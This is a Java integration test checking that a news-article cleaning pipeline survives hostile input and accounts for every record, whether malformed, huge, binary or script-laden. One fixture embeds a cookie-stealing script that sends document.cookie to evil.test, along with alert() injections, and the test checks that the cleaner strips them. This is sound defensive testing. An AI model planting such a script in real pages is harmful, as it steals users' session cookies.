package dev.rewire.deploy.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.rewire.config.RewireConfig;
import dev.rewire.deploy.local.Infrastructure;
import dev.rewire.deploy.metrics.Metrics;
import dev.rewire.model.CleanArticle;
import dev.rewire.model.Json;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile input through the real pipeline (embedded broker, the enrich topology): nothing crashes or
 * hangs, and every input is accounted for, as a clean article or a rejection with a reason.
 */
class HostileInputIT {

    @Test
    void everyHostileInputIsCleanedOrRejectedWithAReason(@TempDir Path tmp) throws Exception {
        Path input = tmp.resolve("hostile.jsonl");
        List<String> lines = new ArrayList<>();
        lines.add(line("https://hostile.test/empty", "html", ""));
        lines.add("{\"url\": \"https://hostile.test/broken-json\", \"html\": ");
        lines.add("{\"html\": \"<p>No address for this one.</p>\"}");
        Random random = new Random(7);
        byte[] noise = new byte[20_000];
        random.nextBytes(noise);
        lines.add(line("https://hostile.test/binary", "html", new String(noise, StandardCharsets.ISO_8859_1)));
        lines.add(line("https://hostile.test/deep", "html", "<div>".repeat(100_000) + "deep text" + "</div>".repeat(100_000)));
        StringBuilder big = new StringBuilder("<html><body><article><h1>A very long page</h1>");
        while (big.length() < 9_000_000) {
            big.append("<p>The harbour board met again on Tuesday and talked about the tides for a long while.</p>");
        }
        lines.add(line("https://hostile.test/huge", "html", big.append("</article></body></html>").toString()));
        lines.add(line("https://hostile.test/one-token", "text", "x".repeat(2_000_000)));
        lines.add(line("https://hostile.test/script", "html", "<html><head><title>Pier reopens</title>"
                + "<script>document.location='https://evil.test/?c='+document.cookie</script></head><body><article>"
                + "<h1>Pier reopens</h1><p>The pier at Saltmarsh reopened on Sunday after a winter of repairs costing 2 million.</p>"
                + "<p onclick=\"alert(1)\">Visitors queued from early morning <script>alert('x')</script>to walk its length.</p>"
                + "</article></body></html>"));
        try (Writer w = Files.newBufferedWriter(input, StandardCharsets.UTF_8)) {
            for (String l : lines) {
                w.write(l);
                w.write('\n');
            }
        }

        RewireConfig cfg = RewireConfig.defaults().with(Map.of("rewire.dataDir", tmp.resolve("data").toString(),
                "topics.partitions", "1", "replay.idleTimeout", "180s"));
        Path out = tmp.resolve("out.jsonl");
        Replay.Result result;
        long t0 = System.nanoTime();
        try (Infrastructure infra = Infrastructure.start(cfg, false, s -> { })) {
            result = new Replay(cfg, infra, Metrics.newRegistry(),
                    new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8)).run(List.of(input), out);
        }
        assertThat(Duration.ofNanos(System.nanoTime() - t0)).isLessThan(Duration.ofMinutes(4));
        assertThat(result.read()).isEqualTo(lines.size());
        assertThat(result.clean() + result.rejected()).isEqualTo(result.read());
        assertThat(result.rejectedByReason()).containsKeys("empty-body", "malformed-record", "missing-url",
                "binary-content");

        List<CleanArticle> articles = Files.readAllLines(out, StandardCharsets.UTF_8).stream()
                .map(l -> Json.read(l, CleanArticle.class)).toList();
        assertThat(articles).hasSize((int) result.clean());
        CleanArticle script = articles.stream().filter(a -> a.url().endsWith("/script")).findFirst().orElseThrow();
        assertThat(script.text()).contains("reopened on Sunday").doesNotContain("document.cookie")
                .doesNotContain("alert(");
    }

    private static String line(String url, String field, String body) {
        ObjectNode node = Json.mapper().createObjectNode();
        node.put("url", url);
        node.put(field, body);
        return node.toString();
    }
}
